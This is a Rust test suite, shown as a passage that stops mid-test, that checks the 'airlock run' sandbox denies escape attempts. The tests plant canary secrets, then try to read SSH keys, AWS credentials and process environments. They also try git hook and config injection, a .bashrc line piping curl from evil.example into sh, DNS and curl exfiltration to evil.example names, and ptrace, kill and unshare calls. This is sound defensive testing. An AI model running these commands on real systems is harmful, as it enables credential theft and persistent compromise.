//! The escape suite of issue 5: every attempt a sandboxed command can make to reach a secret, to
//! change the host, or to leave the sandbox is tried through the built `airlock run`, and each one
//! must be denied. Each test plants canaries (a private key in `~/.ssh`, a marker in
//! `~/.aws/credentials`, secret environment variables) in a temporary `HOME` and workspace, runs
//! one attempt, and checks that no marker reached the command's output and that nothing changed on
//! the host side. Everyday work (git, cargo, npm, curl to a forwarded port, exit status, stdio,
//! signals) must still pass inside.
//!
//! A machine that cannot sandbox (no user namespaces) gets a visible `SKIP: <feature>` line on
//! stderr for every test, never a silent pass.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::collections::BTreeMap;
use std::fs;
use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");
/// The system interpreter: a version manager's shim (pyenv) may not be inside the sandbox.
const PY: &str = "/usr/bin/python3";
/// Printed first by every attempt: the command really ran inside (a sandbox that fails to start
/// denies everything, which must not count as a pass).
const RAN: &str = "AIRLOCK-ESCAPE-RAN";
const TIMEOUT: Duration = Duration::from_secs(60);

// ---------------------------------------------------------------------------------------------
// Skips

/// Why this machine cannot sandbox, if it cannot: probed once with `unshare -Urnm true` (a user
/// namespace with its own network and mount namespaces, which `airlock run` builds on).
fn cannot_sandbox() -> Option<&'static str> {
    static PROBE: OnceLock<Option<String>> = OnceLock::new();
    PROBE
        .get_or_init(|| match Command::new("unshare").args(["-Urnm", "true"]).output() {
            Ok(o) if o.status.success() => None,
            Ok(o) => Some(format!(
                "unprivileged user namespaces (`unshare -Urnm true` failed: {})",
                String::from_utf8_lossy(&o.stderr).trim()
            )),
            Err(e) => Some(format!("unprivileged user namespaces (cannot run unshare(1) to probe: {e})")),
        })
        .as_deref()
}

macro_rules! require_sandbox {
    () => {
        if let Some(why) = cannot_sandbox() {
            eprintln!("SKIP: {why}");
            return;
        }
    };
}

/// A host tool a test drives inside the sandbox; without it the test is a visible skip.
macro_rules! require_tool {
    ($tool:expr) => {
        if Command::new("sh").args(["-c", &format!("command -v {}", $tool)]).output().map(|o| !o.status.success()).unwrap_or(true) {
            eprintln!("SKIP: {} (not installed on this machine)", $tool);
            return;
        }
    };
}

// ---------------------------------------------------------------------------------------------
// Fixture

fn unique(prefix: &str) -> String {
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let nanos = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0);
    let seq = SEQ.fetch_add(1, Ordering::Relaxed);
    format!("{prefix}{:x}{:x}{seq:x}", std::process::id(), nanos & 0xffff_ffff_ffff)
}

/// `len` characters of [A-Za-z0-9] that differ between calls (a fake token's body).
fn token_chars(len: usize) -> String {
    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut seed = u64::from_str_radix(unique("").get(..16).unwrap_or("1"), 16).unwrap_or(1) | 1;
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            ALNUM[(seed % ALNUM.len() as u64) as usize] as char
        })
        .collect()
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=Host", "-c", "user.email=host@example.com", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every file and directory under `dir`, with its contents: a host-side snapshot to compare.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut map = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = fs::read_dir(&d) else { continue };
        for e in entries.flatten() {
            let p = e.path();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                map.insert(p.clone(), b"<dir>".to_vec());
                stack.push(p);
            } else if ft.is_file() {
                map.insert(p.clone(), fs::read(&p).unwrap_or_default());
            } else {
                map.insert(p.clone(), b"<other>".to_vec());
            }
        }
    }
    map
}

struct Fx {
    _root: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    ws: PathBuf,
    /// A directory on the host outside the workspace, with `existing.txt` in it.
    outside: PathBuf,
    ssh_marker: String,
    aws_marker: String,
    env_marker: String,
    github_token: String,
}

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl std::fmt::Display for Out {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "exit {:?}\n--- stdout\n{}\n--- stderr\n{}", self.code, self.stdout, self.stderr)
    }
}

impl Fx {
    fn new() -> Fx {
        let tmp = tempfile::Builder::new().prefix("airlock-escape-").tempdir().unwrap();
        let root = tmp.path().canonicalize().unwrap();
        let home = root.join("home");
        let ws = root.join("ws");
        let outside = root.join("outside");
        let ssh_marker = unique("SSHCANARY");
        let aws_marker = unique("AWSCANARY");
        let env_marker = unique("ENVCANARY");
        let github_token = format!("ghp_{}", token_chars(36));

        fs::create_dir_all(home.join(".ssh")).unwrap();
        fs::write(
            home.join(".ssh/id_ed25519"),
            format!(
                "-----BEGIN OPENSSH PRIVATE KEY-----\n\
                 b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n\
                 {ssh_marker}\n\
                 QyNTUxOQAAACBZ0f3qkq9XH0vx1c0Qm9bkz3zq5l2b8mQ0Q9sUo7lKcAAAAJgAAAAAAAAAAA\n\
                 -----END OPENSSH PRIVATE KEY-----\n"
            ),
        )
        .unwrap();
        fs::set_permissions(home.join(".ssh/id_ed25519"), fs::Permissions::from_mode(0o600)).unwrap();
        fs::write(home.join(".ssh/config"), format!("Host prod\n  # {ssh_marker}\n")).unwrap();
        fs::create_dir_all(home.join(".aws")).unwrap();
        fs::write(
            home.join(".aws/credentials"),
            format!("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {aws_marker}\n"),
        )
        .unwrap();
        fs::write(home.join(".bashrc"), "# host bashrc\nexport PS1='$ '\n").unwrap();
        // Allowlisted toolchain entries, so that the synthetic home has read-only mounts to attack.
        fs::create_dir_all(home.join(".cargo")).unwrap();
        fs::write(home.join(".cargo/config.toml"), "[net]\noffline = true\n").unwrap();
        fs::write(home.join(".gitconfig"), "[user]\n\tname = Sandboxed\n\temail = sandboxed@example.com\n").unwrap();

        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("existing.txt"), "host data\n").unwrap();

        fs::create_dir_all(&ws).unwrap();
        git(&ws, &["init", "-q"]);
        fs::write(ws.join("README.md"), "# fixture\n").unwrap();
        git(&ws, &["add", "README.md"]);
        git(&ws, &["commit", "-q", "-m", "initial"]);

        Fx { _root: tmp, root, home, ws, outside, ssh_marker, aws_marker, env_marker, github_token }
    }

    fn command(&self, extra: &[&str], argv: &[&str]) -> Command {
        let mut c = Command::new(AIRLOCK);
        c.arg("run")
            .arg("--workspace")
            .arg(&self.ws)
            .args(extra)
            .arg("--")
            .args(argv)
            .current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("CANARY_SECRET_TOKEN", &self.env_marker)
            .env("GITHUB_TOKEN", &self.github_token)
            .env("AIRLOCK_MANAGED_CONFIG", self.root.join("no-managed.toml"))
            .env("AIRLOCK_USER_CONFIG", self.root.join("no-user.toml"))
            .env_remove("CARGO_TARGET_DIR")
            .env_remove("XDG_CONFIG_HOME")
            .stdin(Stdio::null());
        c
    }

    fn run(&self, extra: &[&str], argv: &[&str]) -> Out {
        run_with_timeout(self.command(extra, argv), None, TIMEOUT)
    }

    /// `sh -c SCRIPT` inside, printing [`RAN`] first.
    fn sh(&self, extra: &[&str], script: &str) -> Out {
        self.run(extra, &["sh", "-c", &format!("echo {RAN}; {script}")])
    }

    /// `python3 -c CODE` inside, printing [`RAN`] first.
    fn py(&self, extra: &[&str], code: &str) -> Out {
        self.run(extra, &[PY, "-c", &format!("print({RAN:?}, flush=True)\n{code}")])
    }

    /// Writes a helper script into the workspace (host side) and returns its path.
    fn script(&self, name: &str, text: &str) -> String {
        let p = self.ws.join(name);
        fs::write(&p, text).unwrap();
        p.display().to_string()
    }

    /// No canary reached the command's output.
    fn assert_no_leak(&self, out: &Out) {
        for (what, m) in [
            ("ssh key", &self.ssh_marker),
            ("aws credentials", &self.aws_marker),
            ("CANARY_SECRET_TOKEN", &self.env_marker),
            ("GITHUB_TOKEN", &self.github_token),
        ] {
            assert!(!out.stdout.contains(m.as_str()) && !out.stderr.contains(m.as_str()), "{what} leaked:\n{out}");
        }
    }

    /// The attempt ran inside a working sandbox (not a setup failure) and leaked nothing.
    fn assert_ran_clean(&self, out: &Out) {
        assert_ne!(out.code, Some(125), "the sandbox could not be set up:\n{out}");
        assert!(out.stdout.contains(RAN), "the command did not run:\n{out}");
        self.assert_no_leak(out);
    }
}

fn run_with_timeout(mut cmd: Command, stdin: Option<Vec<u8>>, timeout: Duration) -> Out {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    if stdin.is_some() {
        cmd.stdin(Stdio::piped());
    }
    let mut child = cmd.spawn().unwrap_or_else(|e| panic!("spawn {AIRLOCK}: {e}"));
    if let Some(input) = stdin {
        let mut w = child.stdin.take().unwrap();
        thread::spawn(move || {
            let _ = w.write_all(&input);
        });
    }
    let (so, se) = (reader(child.stdout.take().unwrap()), reader(child.stderr.take().unwrap()));
    let code = wait_until(&mut child, timeout);
    let (stdout, stderr) = (so.join().unwrap(), se.join().unwrap());
    match code {
        Some(status) => Out { code: status.code().or_else(|| signal_of(&status).map(|s| 128 + s)), stdout, stderr },
        None => panic!("`airlock run` did not finish within {timeout:?}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"),
    }
}

fn signal_of(status: &std::process::ExitStatus) -> Option<i32> {
    std::os::unix::process::ExitStatusExt::signal(status)
}

fn reader<R: Read + Send + 'static>(mut r: R) -> thread::JoinHandle<String> {
    thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = r.read_to_end(&mut buf);
        String::from_utf8_lossy(&buf).into_owned()
    })
}

/// The child's status, or `None` (after killing it) if it runs past `timeout`.
fn wait_until(child: &mut Child, timeout: Duration) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(s) = child.try_wait().unwrap() {
            return Some(s);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        thread::sleep(Duration::from_millis(5));
    }
}

/// A host process that lives for the test, with the given extra environment.
struct HostProcess(Child);

impl HostProcess {
    fn sleeper(arg: &str, env: &[(&str, &str)]) -> HostProcess {
        let mut c = Command::new("sleep");
        c.arg(arg).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        for (k, v) in env {
            c.env(k, v);
        }
        HostProcess(c.spawn().unwrap())
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
    fn status_field(&self, field: &str) -> String {
        let s = fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap_or_default();
        s.lines().find_map(|l| l.strip_prefix(field)).map(|v| v.trim().to_string()).unwrap_or_default()
    }
}

impl Drop for HostProcess {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// No connection is waiting on a listener the sandbox tried to reach.
fn assert_accepts_nothing(l: &TcpListener, what: &str) {
    l.set_nonblocking(true).unwrap();
    match l.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!("{what} accepted a connection from {peer}"),
        Err(e) => panic!("{what}: accept: {e}"),
    }
}

fn assert_unix_accepts_nothing(l: &UnixListener, what: &str) {
    l.set_nonblocking(true).unwrap();
    match l.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok(_) => panic!("{what} accepted a connection from inside the sandbox"),
        Err(e) => panic!("{what}: accept: {e}"),
    }
}

/// Python that tries to connect to each `(label, family, address)` and prints `label: connected`
/// or `label: refused <errno>`.
fn py_connect(targets: &[(String, &str, String)]) -> String {
    let mut code = String::from("import socket\n");
    for (label, family, addr) in targets {
        code.push_str(&format!(
            "try:\n    s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n    s.settimeout(3)\n    s.connect({addr})\n    print({:?}, flush=True)\nexcept OSError as e:\n    print({:?}, e.errno, e, flush=True)\n",
            format!("{label}: connected"),
            format!("{label}: refused")
        ));
    }
    code
}

// ---------------------------------------------------------------------------------------------
// Secrets

#[test]
fn ssh_private_key_is_unreadable() {
    require_sandbox!();
    let fx = Fx::new();
    let key = fx.home.join(".ssh/id_ed25519");
    let out = fx.sh(
        &[],
        &format!(
            "cat ~/.ssh/id_ed25519; cat '{key}'; cat ~/.ssh/config; ls -la ~/.ssh; \
             find \"$HOME\" -maxdepth 4 -type f -exec cat {{}} + 2>&1; cat /proc/1/root'{key}'; \
             cat /proc/self/root'{key}'; true",
            key = key.display()
        ),
    );
    fx.assert_ran_clean(&out);
}

#[test]
fn aws_credentials_are_unreadable() {
    require_sandbox!();
    let fx = Fx::new();
    let cred = fx.home.join(".aws/credentials");
    let out = fx.sh(
        &[],
        &format!(
            "cat ~/.aws/credentials; cat '{c}'; cat /proc/self/root'{c}'; ls -la ~/.aws; \
             {PY} -c 'import configparser,os; c=configparser.ConfigParser(); c.read(os.path.expanduser(\"~/.aws/credentials\")); print(dict(c.items(\"default\")) if c.has_section(\"default\") else \"no creds\")'; true",
            c = cred.display()
        ),
    );
    fx.assert_ran_clean(&out);
}

#[test]
fn secret_env_vars_are_not_visible() {
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.sh(
        &[],
        "env; echo; tr '\\0' '\\n' < /proc/self/environ; tr '\\0' '\\n' < /proc/1/environ; \
         for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\"; done; \
         printenv CANARY_SECRET_TOKEN GITHUB_TOKEN; echo \"v=$CANARY_SECRET_TOKEN$GITHUB_TOKEN\"; true",
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("CANARY_SECRET_TOKEN=") && !out.stdout.contains("GITHUB_TOKEN="), "{out}");
    // The allowlist itself still arrives.
    assert!(out.stdout.contains("PATH=") && out.stdout.contains(&format!("HOME={}", fx.home.display())), "{out}");
}

// ---------------------------------------------------------------------------------------------
// Writes on the host

#[test]
fn write_outside_workspace_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let tag = unique("airlock-escape-");
    let targets: Vec<PathBuf> = vec![
        fx.outside.join("new.txt"),
        fx.root.join(format!("{tag}-beside-ws")),
        PathBuf::from(format!("/etc/{tag}")),
        PathBuf::from(format!("/usr/local/{tag}")),
        PathBuf::from(format!("/var/tmp/{tag}")),
        fx.home.join(".cargo").join(&tag),
    ];
    let mut script = String::new();
    for t in &targets {
        script.push_str(&format!("echo pwned > '{}'; ", t.display()));
    }
    script.push_str(&format!(
        "echo pwned > '{o}/existing.txt'; echo pwned >> '{o}/existing.txt'; rm -f '{o}/existing.txt'; \
         echo pwned > ../{tag}-relative; touch /etc/passwd; echo inside > '{ws}/inside.txt'; true",
        o = fx.outside.display(),
        ws = fx.ws.display()
    ));
    let out = fx.sh(&[], &script);
    let leaked: Vec<&PathBuf> = targets.iter().filter(|t| t.exists()).collect();
    let relative = fx.root.join(format!("{tag}-relative"));
    for t in leaked.iter().copied().chain([&relative]) {
        let _ = fs::remove_file(t); // never leave files on the host, even when the test fails
    }
    fx.assert_ran_clean(&out);
    assert!(leaked.is_empty(), "written on the host: {leaked:?}\n{out}");
    assert!(!relative.exists(), "written beside the workspace through ..\n{out}");
    assert_eq!(fs::read_to_string(fx.outside.join("existing.txt")).unwrap(), "host data\n", "{out}");
    // The control: the workspace itself is writable.
    assert_eq!(fs::read_to_string(fx.ws.join("inside.txt")).unwrap_or_default(), "inside\n", "{out}");
}

#[test]
fn git_hooks_cannot_be_planted() {
    require_sandbox!();
    let fx = Fx::new();
    let hooks_before = snapshot(&fx.ws.join(".git/hooks"));
    let out = fx.sh(
        &[],
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         cp /bin/true .git/hooks/post-checkout; \
         umount .git/hooks; umount -l .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit; \
         mv .git/hooks .git/hooks-moved; rm -rf .git/hooks; mkdir -p .git/hooks; \
         printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-push; true",
    );
    fx.assert_ran_clean(&out);
    for hook in ["pre-commit", "post-checkout", "pre-push"] {
        assert!(!fx.ws.join(".git/hooks").join(hook).exists(), "{hook} planted on the host:\n{out}");
    }
    assert!(!fx.ws.join(".git/hooks-moved").exists(), ".git/hooks moved:\n{out}");
    assert_eq!(snapshot(&fx.ws.join(".git/hooks")), hooks_before, ".git/hooks changed:\n{out}");
}

#[test]
fn git_config_cannot_be_changed() {
    require_sandbox!();
    let fx = Fx::new();
    let before = fs::read(fx.ws.join(".git/config")).unwrap();
    let out = fx.sh(
        &[],
        "git config core.hooksPath /tmp/evil-hooks; git config core.fsmonitor 'touch /tmp/pwned'; \
         echo '[core]' >> .git/config; echo '  pager = sh -c pwned' >> .git/config; \
         cp .git/config /tmp/c && echo '[alias] st = !pwned' >> /tmp/c && cp /tmp/c .git/config; \
         mv /tmp/c .git/config; umount .git/config; umount -l .git/config; \
         printf '[core]\\n\\tfsmonitor = pwned\\n' > .git/config; \
         echo '[include] path = ../evil.cfg' > .git/config.worktree; true",
    );
    fx.assert_ran_clean(&out);
    assert_eq!(fs::read(fx.ws.join(".git/config")).unwrap(), before, ".git/config changed:\n{out}");
    let cfg = git(&fx.ws, &["config", "--list", "--show-origin"]);
    assert!(!cfg.contains("pwned") && !cfg.contains("hookspath") && !cfg.contains("fsmonitor"), "{cfg}\n{out}");
}

#[test]
fn git_dir_cannot_be_replaced_wholesale() {
    // The read-only mounts on .git/hooks and .git/config protect nothing if .git itself can be
    // swapped for a copy whose config points hooks at the workspace: the host's next `git commit`
    // then runs the planted hook outside the sandbox.
    require_sandbox!();
    let fx = Fx::new();
    let before = fs::read(fx.ws.join(".git/config")).unwrap();
    let out = fx.sh(
        &[],
        "mv .git .git-old && mkdir .git && cp -r .git-old/objects .git-old/refs .git-old/HEAD .git/ && \
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\thooksPath = .evil-hooks\\n' > .git/config && \
         mkdir -p .evil-hooks && printf '#!/bin/sh\\necho pwned\\n' > .evil-hooks/pre-commit && chmod +x .evil-hooks/pre-commit && \
         echo REPLACED; true",
    );
    let hooks_path = Command::new("git").args(["config", "--get", "core.hooksPath"]).current_dir(&fx.ws).output().unwrap();
    let config_now = fs::read(fx.ws.join(".git/config")).unwrap_or_default();
    fx.assert_ran_clean(&out);
    assert!(hooks_path.stdout.is_empty(), "core.hooksPath set on the host repository:\n{out}");
    assert_eq!(config_now, before, ".git/config replaced:\n{out}");
    assert!(!fx.ws.join(".git-old").exists(), ".git was moved aside:\n{out}");
}

#[test]
fn bashrc_append_does_not_reach_host() {
    require_sandbox!();
    let fx = Fx::new();
    let before = snapshot(&fx.home);
    let out = fx.sh(
        &[],
        &format!(
            "echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc; echo pwned >> '{h}/.bashrc'; \
             echo pwned >> ~/.profile; echo pwned >> ~/.bash_profile; mkdir -p ~/.config/autostart; \
             echo pwned > ~/.config/autostart/x.desktop; echo pwned >> ~/.gitconfig; true",
            h = fx.home.display()
        ),
    );
    fx.assert_ran_clean(&out);
    assert_eq!(snapshot(&fx.home), before, "the host HOME changed:\n{out}");
}

// ---------------------------------------------------------------------------------------------
// Network

#[test]
fn loopback_listener_not_forwarded_is_unreachable() {
    require_sandbox!();
    let fx = Fx::new();
    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
    let allowed_port = allowed.local_addr().unwrap().port();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let other_port = other.local_addr().unwrap().port();
    // Another address in 127.0.0.0/8 on the allowed port, and on a port of its own.
    let same_port_other_ip = TcpListener::bind(SocketAddr::from(([127, 0, 0, 2], allowed_port))).ok();
    let other_ip = TcpListener::bind("127.0.0.2:0").unwrap();
    let other_ip_port = other_ip.local_addr().unwrap().port();
    let mut targets = vec![
        ("127.0.0.1:other".to_string(), "AF_INET", format!("('127.0.0.1', {other_port})")),
        ("127.0.0.2:own".to_string(), "AF_INET", format!("('127.0.0.2', {other_ip_port})")),
        ("localhost:other".to_string(), "AF_INET", format!("('localhost', {other_port})")),
    ];
    if same_port_other_ip.is_some() {
        targets.push(("127.0.0.2:allowed-port".to_string(), "AF_INET", format!("('127.0.0.2', {allowed_port})")));
    }
    let port_arg = allowed_port.to_string();
    let out = fx.py(&["--allow-port-forward", &port_arg], &py_connect(&targets));
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains(": connected"), "a listener that is not forwarded was reached:\n{out}");
    assert_accepts_nothing(&other, "127.0.0.1 (other port)");
    assert_accepts_nothing(&other_ip, "127.0.0.2");
    if let Some(l) = &same_port_other_ip {
        assert_accepts_nothing(l, "127.0.0.2 on the allowed port");
    }
    drop(allowed);
}

const DNS_PROBE: &str = "import socket, sys\nname = sys.argv[1]\ntry:\n    print('NAME-RESOLVED', socket.getaddrinfo(name, 443), flush=True)\nexcept OSError as e:\n    print('NAME-FAILED', e, flush=True)\n";

fn dns_attempt(fx: &Fx, extra: &[&str], name: &str) -> Out {
    let probe = fx.script("dns_probe.py", DNS_PROBE);
    fx.sh(
        extra,
        &format!(
            "getent hosts {name} && echo GETENT-\"RESOLVED\"; getent ahosts {name} && echo GETENT-\"RESOLVED\"; \
             {PY} {probe} {name}; true"
        ),
    )
}

#[test]
fn unlisted_name_does_not_resolve_without_network() {
    require_sandbox!();
    let fx = Fx::new();
    let name = format!("{}.evil.example", unique("exfil-"));
    let out = dns_attempt(&fx, &[], &name);
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("GETENT-RESOLVED") && !out.stdout.contains("NAME-RESOLVED"), "{out}");
    assert!(out.stdout.contains("NAME-FAILED"), "{out}");
}

#[test]
fn unlisted_name_is_denied_and_reported_with_allow_domain() {
    require_sandbox!();
    let fx = Fx::new();
    let name = format!("{}.evil.example", unique("exfil-"));
    let out = dns_attempt(&fx, &["--allow-domain", "allowed.example"], &name);
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("GETENT-RESOLVED") && !out.stdout.contains("NAME-RESOLVED"), "{out}");
    assert!(out.stdout.contains("NAME-FAILED"), "{out}");
    assert!(
        out.stderr.lines().any(|l| l.starts_with("airlock: denied") && l.contains(&name)),
        "no `airlock: denied` line naming {name}:\n{out}"
    );
}

#[test]
fn unlisted_name_through_the_proxy_is_denied_and_reported() {
    require_sandbox!();
    require_tool!("curl");
    let fx = Fx::new();
    let name = format!("{}.evil.example", unique("exfil-"));
    let out = fx.sh(
        &["--allow-domain", "allowed.example"],
        &format!(
            "curl -fsS --max-time 10 http://{name}/ && echo \"FETCHED\"; \
             curl -fsS --max-time 10 https://{name}/ && echo \"FETCHED\"; true"
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("FETCHED"), "{out}");
    assert!(
        out.stderr.lines().any(|l| l.starts_with("airlock: denied") && l.contains(&name)),
        "no `airlock: denied` line naming {name}:\n{out}"
    );
}

#[test]
fn abstract_unix_socket_of_host_is_unreachable() {
    require_sandbox!();
    let fx = Fx::new();
    let name = unique("airlock-canary-");
    let listener = UnixListener::bind_addr(&UnixAddr::from_abstract_name(name.as_bytes()).unwrap()).unwrap();
    let out = fx.py(&[], &py_connect(&[("abstract".to_string(), "AF_UNIX", format!("'\\0{name}'"))]));
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains("abstract: refused"), "{out}");
    assert_unix_accepts_nothing(&listener, "the abstract socket");
}

#[test]
fn unix_socket_file_outside_workspace_is_unreachable() {
    require_sandbox!();
    let fx = Fx::new();
    // An agent socket in a host temporary directory (like SSH_AUTH_SOCK), and one under /run
    // (where docker.sock and the D-Bus system bus live) when the test may create it.
    let agent = fx.outside.join("agent.sock");
    let agent_l = UnixListener::bind(&agent).unwrap();
    let run_path = PathBuf::from(format!("/run/{}.sock", unique("airlock-canary-")));
    let run_l = UnixListener::bind(&run_path).ok();
    let mut targets = vec![("agent".to_string(), "AF_UNIX", format!("{:?}", agent.display().to_string()))];
    if run_l.is_some() {
        targets.push(("run".to_string(), "AF_UNIX", format!("{:?}", run_path.display().to_string())));
    } else {
        eprintln!("note: cannot create a socket under /run; only the temporary-directory socket is tried");
    }
    let mut cmd = fx.command(&[], &[PY, "-c", &format!("print({RAN:?}, flush=True)\n{}", py_connect(&targets))]);
    cmd.env("SSH_AUTH_SOCK", &agent);
    let out = run_with_timeout(cmd, None, TIMEOUT);
    let _ = fs::remove_file(&run_path);
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains(": connected"), "{out}");
    assert_unix_accepts_nothing(&agent_l, "the agent socket");
    if let Some(l) = &run_l {
        assert_unix_accepts_nothing(l, "the /run socket");
    }
}

// ---------------------------------------------------------------------------------------------
// Other processes

#[test]
fn host_process_is_invisible_and_cannot_be_signalled() {
    require_sandbox!();
    let fx = Fx::new();
    let arg = format!("86{}.5", std::process::id() % 10000);
    let mut host = HostProcess::sleeper(&arg, &[]);
    let pid = host.pid();
    let out = fx.sh(
        &[],
        &format!(
            "kill -0 {pid} && echo SEES-HOST-\"PID\"; kill -STOP {pid}; kill -TERM {pid}; kill -KILL {pid}; \
             kill -TERM -1; ps -eo pid,args; cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; true"
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("SEES-HOST-PID"), "{out}");
    assert!(!out.stdout.contains(&arg), "the host process is visible inside:\n{out}");
    assert!(host.alive(), "the host process was killed from inside:\n{out}");
    assert!(!host.status_field("State:").starts_with('T'), "the host process was stopped:\n{out}");
}

const PTRACE: &str = r#"
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206
def attempt(label, req, pid):
    r = libc.ptrace(req, pid, None, None)
    print(label, 'ok' if r == 0 else 'denied', ctypes.get_errno(), flush=True)
attempt('host-attach', PTRACE_ATTACH, HOST_PID)
attempt('host-seize', PTRACE_SEIZE, HOST_PID)
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
attempt('child-attach', PTRACE_ATTACH, child)
os.kill(child, 9)
os.waitpid(child, 0)
attempt('traceme', PTRACE_TRACEME, 0)
"#;

#[test]
fn ptrace_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let host = HostProcess::sleeper("300", &[]);
    let out = fx.py(&[], &PTRACE.replace("HOST_PID", &host.pid().to_string()));
    fx.assert_ran_clean(&out);
    for label in ["host-attach", "host-seize", "child-attach", "traceme"] {
        assert!(out.stdout.contains(&format!("{label} denied")), "{label} not denied:\n{out}");
    }
    // seccomp answers EPERM even for the sandbox's own child (no namespace rule forbids that one).
    assert!(out.stdout.contains("child-attach denied 1\n"), "ptrace not refused by seccomp:\n{out}");
    assert_eq!(host.status_field("TracerPid:"), "0", "the host process is being traced:\n{out}");
}

#[test]
fn other_process_environ_is_unreadable() {
    require_sandbox!();
    let fx = Fx::new();
    let secret = unique("PROCENVCANARY");
    let host = HostProcess::sleeper("300", &[("CANARY_SECRET_TOKEN", &secret)]);
    let out = fx.sh(
        &[],
        &format!(
            "tr '\\0' '\\n' < /proc/{pid}/environ; for f in /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ; do \
             tr '\\0' '\\n' < \"$f\"; done; true",
            pid = host.pid()
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains(&secret) && !out.stderr.contains(&secret), "another process's environment leaked:\n{out}");
}

// ---------------------------------------------------------------------------------------------
// Kernel attack surface

const UNSHARE: &str = r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in [('user', 0x10000000), ('mount', 0x20000), ('net', 0x40000000), ('pid', 0x20000000),
                   ('uts', 0x04000000), ('ipc', 0x08000000), ('cgroup', 0x02000000), ('time', 0x80)]:
    r = libc.unshare(flag)
    print('unshare', name, 'ok' if r == 0 else 'denied', ctypes.get_errno(), flush=True)
"#;

#[test]
fn user_namespace_creation_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.sh(
        &[],
        &format!(
            "unshare -U true && echo UNSHARE-\"OK\"; unshare -Ur true && echo UNSHARE-\"OK\"; \
             unshare -Urm true && echo UNSHARE-\"OK\"; unshare -n true && echo UNSHARE-\"OK\"; \
             {PY} {}; true",
            fx.script("unshare_probe.py", UNSHARE)
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("UNSHARE-OK"), "{out}");
